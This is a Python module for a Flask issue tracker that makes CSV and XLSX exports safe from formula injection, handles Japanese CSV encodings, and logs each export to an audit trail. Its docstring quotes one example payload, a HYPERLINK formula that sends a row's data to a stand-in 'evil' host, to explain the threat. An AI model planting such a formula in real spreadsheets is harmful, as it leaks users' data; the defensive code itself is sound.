"""Exports that are safe to open in Excel: user text is always text, never a formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by
Excel and LibreOffice (``=HYPERLINK("http://evil/?"&A1, "詳細")`` sends the row away when clicked). Every
CSV and XLSX export goes through here:

- ``csv_writer(stream)``: a ``csv.writer`` whose text cells get a leading ``'`` when they start like that;
- ``xlsx_append(sheet, row)`` / ``xlsx_cell(sheet, row, column, value)``: text cells are typed as strings
  (openpyxl would otherwise store ``"=..."`` as a formula) and marked "quote prefix", as Excel does for
  text typed after ``'``.

Numbers, dates and booleans are left as they are, so they stay numbers and dates in the sheet.

Every export that lists data (CSV, XLSX, iCalendar, PDF) is also an entry of the audit log: who took which list,
with which filter, how many rows. A feature declares its list once (``TICKETS = exported_list("tickets",
_l("Ticket list exported"))``) and answers with ``send(TICKETS, body, rows=..., filename=...)``, which records
``export.tickets`` and builds the attachment response. tests/access/test_export_audit.py requests every GET route
and fails for a download of one of these types that was not recorded, so a new export cannot forget it.
"""
from __future__ import annotations

import codecs
import csv
import io
import re
from dataclasses import dataclass

from flask import Response, request, stream_with_context
from flask_login import current_user

from tracker.core import audit
from tracker.core.requestlog import REDACTED, SECRET_PARAMETERS
from tracker.extensions import db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# "-3" or "+1.5" written as text (a formatted number) is a number to Excel, not a formula.
_PLAIN_NUMBER = re.compile(r"^[-+]?\d+(?:[.,]\d+)*$")


def starts_like_formula(value: str) -> bool:
    return value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(value)


def safe_text(value):
    """``value`` for a CSV cell: text that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([safe_text(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **options) -> _SafeWriter:
    options.setdefault("lineterminator", "\r\n")
    return _SafeWriter(csv.writer(stream, **options))


# CSV encodings a list can be downloaded in (Redmine's ``encoding=`` parameter): UTF-8 with a BOM (Excel reads
# Japanese right with it), or Shift_JIS as Windows writes it (CP932), which older Excel versions expect.
# Redmine in Japanese names the latter "Shift_JIS" in its form and exports CP932.
CSV_ENCODINGS = {"utf-8": "utf-8-sig", "utf8": "utf-8-sig", "shift_jis": "cp932", "sjis": "cp932", "cp932": "cp932",
                 "windows-31j": "cp932", "ms932": "cp932"}
DEFAULT_CSV_ENCODING = "utf-8"
MISSING_IN_CP932 = "〓"  # the geta mark: what Japanese printing puts where a character is missing


def _visible_replacement(error: UnicodeEncodeError):
    return MISSING_IN_CP932 * (error.end - error.start), error.end


codecs.register_error("tracker-geta", _visible_replacement)


def csv_codec(name: str | None) -> str | None:
    """The Python codec for an ``encoding=`` value, or None when it is not one offered."""
    return CSV_ENCODINGS.get((name or DEFAULT_CSV_ENCODING).strip().lower())


def csv_chunks(rows, codec: str = "utf-8-sig", rows_per_chunk: int = 500):
    """Encoded pieces of a CSV file, for a streamed response: ``rows`` (an iterable of lists) are written
    through ``csv_writer`` (the formula rule) and encoded every ``rows_per_chunk`` rows. A character that
    CP932 lacks (𠮷, emoji, some symbols) becomes 〓, so the reader sees that something was there."""
    encoder = codecs.getincrementalencoder(codec)(errors="strict" if codec.startswith("utf") else "tracker-geta")
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    pending, first = 0, True
    for row in rows:
        writer.writerow(row)
        pending += 1
        if pending >= rows_per_chunk or first:  # the header goes out alone: the download starts at once
            first = False
            yield encoder.encode(buffer.getvalue())
            buffer.seek(0)
            buffer.truncate()
            pending = 0
    yield encoder.encode(buffer.getvalue(), final=True)


def _as_text(cell) -> None:
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if starts_like_formula(cell.value):
            cell.quotePrefix = True


def xlsx_cell(sheet, row: int, column: int, value=None):
    cell = sheet.cell(row=row, column=column, value=value)
    _as_text(cell)
    return cell


def xlsx_append(sheet, values) -> None:
    """``sheet.append(values)`` with every text cell kept as text."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        _as_text(cell)


def xlsx_row(sheet, values, number_formats: dict[int, str] | None = None) -> list:
    """One row for a write-only sheet (``Workbook(write_only=True)``, rows go to disk as they are appended):
    text cells typed as text as ``xlsx_append`` does, ``number_formats`` by column index (0-based)."""
    from openpyxl.cell import WriteOnlyCell

    row = []
    for index, value in enumerate(values):
        cell = WriteOnlyCell(sheet, value=value)
        _as_text(cell)
        if number_formats and index in number_formats and value is not None:
            cell.number_format = number_formats[index]
        row.append(cell)
    return row


# What an export is, by the file it gives: the audit test recognises exports by these types.
EXPORT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "ics": "text/calendar",
    "pdf": "application/pdf",
}


@dataclass(frozen=True)
class ExportedList:
    name: str

    @property
    def action(self) -> str:
        return f"export.{self.name}"


def exported_list(name: str, label) -> ExportedList:
    """Declare a list that can be exported, in the feature that exports it: its audit action is
    ``export.<name>``, shown in the audit log with ``label``."""
    audit.register_action(f"export.{name}", label, "export")
    return ExportedList(name)


def request_filter() -> dict:
    """The request's query parameters as the list was asked for ({name: value}, or a list for a repeated
    name), readable in the audit log (no percent-encoding) and enough to replay it; secrets such as ``key``
    are redacted."""
    found = {}
    for name in request.args:
        values = [REDACTED] if name.lower() in SECRET_PARAMETERS else request.args.getlist(name)
        found[name] = values[0] if len(values) == 1 else values
    return found


def record_export(exported: ExportedList, *, rows: int, file_format: str, wg_id: int | None = None) -> None:
    """Enter this request's export in the audit log and commit it.

    An export is a GET, and a GET never writes, with this one exception: the single INSERT of the export's
    audit entry. Nothing else in the request commits, so it is committed here; the GET matrix of tests/access
    allows exactly this statement and still refuses every other write. A HEAD request gets no file, so no entry."""
    if request.method == "HEAD":
        return
    actor = current_user._get_current_object() if current_user.is_authenticated else None
    audit.record(exported.action, actor=actor, wg_id=wg_id, details={
        "list": exported.name,
        "filter": request_filter(),
        "rows": rows,
        "format": file_format,
    })
    db.session.commit()


def send(exported: ExportedList, body: bytes, *, rows: int, filename: str, wg_id: int | None = None) -> Response:
    """The download of an export, recorded first (``record_export``). ``rows`` is how many items of the list
    the file holds (tickets, ideas, people, events), counted by the caller from what it wrote.
    The file's type comes from ``filename``'s extension (``EXPORT_TYPES``)."""
    file_format = filename.rsplit(".", 1)[-1].lower()
    record_export(exported, rows=rows, file_format=file_format, wg_id=wg_id)
    response = Response(body, mimetype=EXPORT_TYPES[file_format])
    response.headers.set("Content-Disposition", "attachment", filename=filename)
    return response


def send_stream(exported: ExportedList, chunks, *, rows: int, filename: str, wg_id: int | None = None,
                charset: str | None = None) -> Response:
    """``send`` for a file written while it is sent: ``chunks`` (a generator of bytes) runs inside the request
    (``stream_with_context``), so it may read the database in batches; the worker never holds the whole file.
    The audit entry is committed before the first byte. ``charset`` overrides the CSV type's (Shift_JIS)."""
    file_format = filename.rsplit(".", 1)[-1].lower()
    record_export(exported, rows=rows, file_format=file_format, wg_id=wg_id)
    content_type = EXPORT_TYPES[file_format]
    if charset:
        content_type = f"{content_type.split(';')[0]}; charset={charset}"
    response = Response(stream_with_context(chunks), content_type=content_type)
    response.headers.set("Content-Disposition", "attachment", filename=filename)
    return response
